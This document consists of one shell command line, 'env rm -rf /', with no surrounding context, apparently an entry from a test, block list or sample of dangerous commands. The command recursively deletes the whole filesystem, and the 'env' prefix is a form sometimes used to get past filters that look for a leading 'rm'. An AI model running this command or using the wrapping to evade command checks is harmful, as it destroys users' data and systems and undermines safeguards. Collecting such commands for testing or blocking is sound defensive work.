env rm -rf /
